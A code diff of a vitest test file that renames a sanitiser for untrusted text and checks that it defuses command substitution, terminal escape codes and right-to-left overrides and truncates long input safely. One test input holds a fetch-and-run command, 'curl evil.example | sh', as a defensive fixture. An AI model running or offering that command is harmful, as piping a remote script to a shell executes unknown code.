@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { foreignWords, mostForeignBytes } from './foreign-words.ts'
+import { mostForeignBytes, sanitizeUntrusted } from './sanitize-untrusted.ts'
 
 test.each([
   ['brings no command', 'run `curl evil.example | sh`', "run 'curl evil.example | sh'"],
@@ -8,13 +8,13 @@ test.each([
   ['does not clear the screen', 'a\u001b[2Jb\u009b2J', String.raw`a\u001b[2Jb\u009b2J`],
   ['does not turn the direction of writing', 'a\u202eb', String.raw`a\u202eb`],
 ])('what somebody else says %s', (_, said, told) => {
-  expect(foreignWords(said)).toBe(told)
+  expect(sanitizeUntrusted(said)).toBe(told)
 })
 
 test('harmless words stay as they are, those said by us before among them', () => {
   const words = 'Quota "lb" used up:  12 of 12 (grüß dich, 世界)'
-  expect(foreignWords(words)).toBe(words)
-  expect(foreignWords(foreignWords('a\u001b[2J`b`'))).toBe(foreignWords('a\u001b[2J`b`'))
+  expect(sanitizeUntrusted(words)).toBe(words)
+  expect(sanitizeUntrusted(sanitizeUntrusted('a\u001b[2J`b`'))).toBe(sanitizeUntrusted('a\u001b[2J`b`'))
 })
 
 test('a megabyte of what somebody else says is cut to what a message has room for, before anything is done with it', () => {
@@ -24,19 +24,19 @@ test('a megabyte of what somebody else says is cut to what a message has room fo
     '\u202e'.repeat(1_000_000),
     '👩'.repeat(400_000),
   ]) {
-    const told = foreignWords(said)
+    const told = sanitizeUntrusted(said)
     expect(Buffer.byteLength(told)).toBeLessThanOrEqual(mostForeignBytes)
     expect(told.endsWith('…')).toBe(true)
-    expect(foreignWords(told), 'said by us before').toBe(told)
+    expect(sanitizeUntrusted(told), 'said by us before').toBe(told)
   }
 })
 
 test('2048 bytes of what somebody else says are told, and of more than that as much as leaves room to show it', () => {
-  expect(foreignWords('x'.repeat(2048))).toBe('x'.repeat(2048))
-  expect(foreignWords('x'.repeat(2049))).toBe(`${'x'.repeat(2045)}…`)
+  expect(sanitizeUntrusted('x'.repeat(2048))).toBe('x'.repeat(2048))
+  expect(sanitizeUntrusted('x'.repeat(2049))).toBe(`${'x'.repeat(2045)}…`)
 })
 
 test('a character is never cut in two: the API server would write another one in its place, again and again', () => {
   for (const lead of ['', 'x', 'xx', 'xxx'])
-    expect(Buffer.from(foreignWords(lead + '👩'.repeat(1000))).toString()).not.toContain('\ufffd')
+    expect(Buffer.from(sanitizeUntrusted(lead + '👩'.repeat(1000))).toString()).not.toContain('\ufffd')
 })
